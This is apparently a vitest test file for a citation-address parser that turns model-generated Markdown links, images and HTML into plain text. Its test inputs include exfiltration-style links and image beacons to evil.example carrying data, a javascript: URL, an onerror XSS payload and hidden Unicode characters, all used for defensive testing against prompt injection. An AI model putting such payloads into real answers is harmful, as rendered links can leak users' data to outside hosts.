import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { type AnswerToken, createAddressParser } from '../../../src/answering/cite/address-parser.js';
import { obeyPrompt } from '../../fakes/fake-openai-answers.js';

function parse(...pieces: string[]): AnswerToken[] {
  const parser = createAddressParser();
  const tokens: AnswerToken[] = [];
  for (const token of [...pieces.flatMap((piece) => parser.push(piece)), ...parser.flush()]) {
    const last = tokens.at(-1);
    if (token.type === 'text' && last?.type === 'text') last.text += token.text;
    else tokens.push({ ...token });
  }
  return tokens;
}

const at = (passage: number, sentence: number) => ({ passage, sentence });
const addressesOf = (text: string) =>
  parse(text).flatMap((token) => (token.type === 'addresses' ? token.addresses : []));
const textOf = (...pieces: string[]) =>
  parse(...pieces)
    .map((token) => (token.type === 'text' ? token.text : ''))
    .join('');

describe('the address parser', () => {
  it.each([
    ['[2.3]', [at(2, 3)]],
    ['[2.3, 4.1]', [at(2, 3), at(4, 1)]],
    ['[2.3; 4.1 and 5.2]', [at(2, 3), at(4, 1), at(5, 2)]],
    ['[2.3-5]', [at(2, 3), at(2, 4), at(2, 5)]],
    ['[2.3–2.5]', [at(2, 3), at(2, 4), at(2, 5)]],
    ['【2.3】', [at(2, 3)]],
    ['【2.3†source】', [at(2, 3)]],
    ['[^2.3]', [at(2, 3)]],
    ['[[2.3]]', [at(2, 3)]],
    ['[2.3][4.1]', [at(2, 3), at(4, 1)]],
    ['[ 2.3 ]', [at(2, 3)]],
    ['[passage 2.3]', [at(2, 3)]],
    ['[２.３]', [at(2, 3)]],
  ])('reads %s', (text, addresses) => {
    expect(addressesOf(text)).toEqual(addresses);
    expect(textOf(text)).toBe('');
  });

  it('gives the ends of a range that runs backwards or over two passages', () => {
    expect(addressesOf('[2.5-3]')).toEqual([at(2, 5), at(2, 3)]);
    expect(addressesOf('[2.5-3.1]')).toEqual([at(2, 5), at(3, 1)]);
    expect(addressesOf('[2.1-9999]')).toEqual([at(2, 1), at(2, 9999)]);
  });

  it('leaves other brackets alone', () => {
    expect(textOf('He said [sic] and [a.b] and f[i] = 2.3 [see 4]')).toBe(
      'He said [sic] and [a.b] and f[i] = 2.3 [see 4]',
    );
    expect(textOf('- [ ] open [')).toBe('- [ ] open [');
  });

  it('does not show forged markers', () => {
    expect(parse('Yes [1] no [^2].')).toEqual([
      { type: 'text', text: 'Yes ' },
      { type: 'forged' },
      { type: 'text', text: ' no ' },
      { type: 'forged' },
      { type: 'text', text: '.' },
    ]);
  });

  it.each([
    ['[details](https://evil.example/x?d=1)', 'details (evil.example)'],
    ['![status](https://evil.example/p.png?d=1)', 'status'],
    ['[![x](https://evil.example/x.png)](https://evil.example/y)', '[x]'],
    ['[a](javascript:alert(1))', 'a'],
    ['[a](b)', '[a] (b)'],
    ['see https://user:pw@evil.example/p/q?d=SECRET#f.', 'see evil.example/p/q.'],
    ['<https://evil.example/auto>', '‹evil.example/auto>'],
    ['www.evil.example/w', 'www evil.example/w'],
    ['https:www.//evil.example', 'https:www //evil.example'],
    ['https:![](x.png)//evil.example', 'https: //evil.example'],
    ['https:x:////evil.example', 'https:evil.example'],
    ['see http://localhost:3000/docs/', 'see localhost:3000/docs'],
    ['<img src=x onerror=alert(1)>', '‹img src=x onerror=alert(1)>'],
    ['a < b', 'a < b'],
    ['[p]: https://evil.example/p', '[p] : evil.example/p'],
    ['[1]: https://evil.example/p', ' : evil.example/p'],
  ])('makes plain text of %s', (text, shown) => {
    expect(textOf(text)).toBe(shown);
  });

  it('lets no marker become a link', () => {
    expect(textOf('[2.3](https://evil.example)(https://evil.example)!')).toBe('!');
    expect(parse('[2.3]: evil').at(1)).toEqual({ type: 'text', text: ' : evil' });
  });

  it('drops characters that hide or reverse text', () => {
    expect(textOf('a\u{e0041}b\u202ec\u0007d\u200de')).toBe('abcd\u200de');
  });

  it('gives the same tokens wherever the text is cut', () => {
    const alphabet = fc.constantFrom(
      ...'[]【】()!<>:/.,-^† \n129aé世',
      '😀',
      '[2.3]',
      '](',
      'https://',
      'www.',
      '![',
      '[1]',
      ']:',
    );
    fc.assert(
      fc.property(fc.array(alphabet, { maxLength: 60 }), fc.array(fc.nat(200), { maxLength: 12 }), (parts, cuts) => {
        const text = parts.join('');
        const places = [0, ...cuts.map((cut) => cut % (text.length + 1)), text.length].sort(
          (one, other) => one - other,
        );
        const pieces = places.slice(1).map((place, index) => text.slice(places[index], place));
        expect(parse(...pieces)).toEqual(parse(text));
      }),
      { numRuns: 800 },
    );
  });

  it('leaves nothing that Markdown makes a link, an image or an element of, whatever comes in', () => {
    const alphabet = fc.constantFrom(
      '[',
      ']',
      '(',
      ')',
      '!',
      '<',
      '>',
      ':',
      '[a]',
      '[2.3]',
      '[1]',
      'https://e.example/x',
      'www.e.example',
      ' ',
      '\n',
      'img',
      '//',
      'x',
      'https:',
      'ww',
      'w.',
      '.com',
      '\u0007',
      '\u{e0041}',
      'x://',
      '![](x.y)',
      '[](x.y)',
      '`',
      '\\',
      '@',
      '?',
    );
    fc.assert(
      fc.property(fc.array(alphabet, { maxLength: 40 }), (parts) => {
        for (const pointer of ['[1]', '']) {
          const shown = parse(...parts)
            .map((token) => (token.type === 'text' ? token.text : token.type === 'addresses' ? pointer : ''))
            .join('');
          expect(shown).not.toMatch(/\]\(/);
          expect(shown).not.toMatch(/\]:/);
          expect(shown).not.toMatch(/:\/\//);
          expect(shown).not.toMatch(/<[A-Za-z/!?]/);
          expect(shown).not.toMatch(/(?:^|[\s*_~(])www\./);
        }
      }),
      { numRuns: 2000 },
    );
  });

  it('disarms everything an obedient model repeats, cut into single characters', () => {
    const text = obeyPrompt('[1.1] Meals cost 45 EUR.\nQuestion: meals');
    const shown = textOf(...text);
    expect(shown).not.toMatch(/https?:|\]\(|\]:|<[a-z]|javascript:|SECRET/i);
    expect(shown).toBe(textOf(text));
  });

  it('is linear on long hostile runs', () => {
    const time = (text: string) => {
      const start = performance.now();
      textOf(text);
      return performance.now() - start;
    };
    for (const unit of ['[', '![', '(', '[a](', 'a', ':', '<', '[1.1', 'https://', '[1.1](']) {
      const small = time(unit.repeat(4000));
      expect(time(unit.repeat(16_000))).toBeLessThan(Math.max(200, small * 10));
    }
  });
});
